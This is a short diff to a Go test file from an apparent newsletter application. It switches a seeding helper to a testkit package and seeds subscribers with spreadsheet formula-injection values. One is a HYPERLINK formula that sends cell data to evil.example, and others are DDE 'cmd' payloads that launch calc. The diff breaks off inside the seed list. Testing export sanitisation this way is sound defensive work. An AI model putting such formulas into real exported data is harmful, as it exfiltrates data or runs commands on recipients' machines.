@@ -10,7 +10,7 @@ import (
 	"testing"
 	"unicode/utf8"
 
-	"newsletter/db"
+	"newsletter/internal/testkit"
 	"newsletter/subscribers"
 )
 
@@ -19,16 +19,9 @@ import (
 func seedOutsideText(t *testing.T, c *cli) {
 	t.Helper()
 	ctx := context.Background()
-	d, err := db.Open(ctx, filepath.Join(c.dir, "n.db"))
-	if err != nil {
-		t.Fatal(err)
-	}
+	d := testkit.OpenDBFile(t, filepath.Join(c.dir, "n.db"), nil)
 	defer d.Close()
-	key, err := d.SecretKey(ctx)
-	if err != nil {
-		t.Fatal(err)
-	}
-	st := subscribers.NewStore(d, key)
+	st := testkit.NewStore(t, d)
 	for _, p := range []subscribers.AddParams{
 		{Email: "victim@example.org", Name: `=HYPERLINK("http://evil.example/?x="&A1,"Klick")`},
 		{Email: "=cmd|'/Ccalc'!A0@example.org", Name: "@SUM(1+1)*cmd|' /C calc'!A0"},
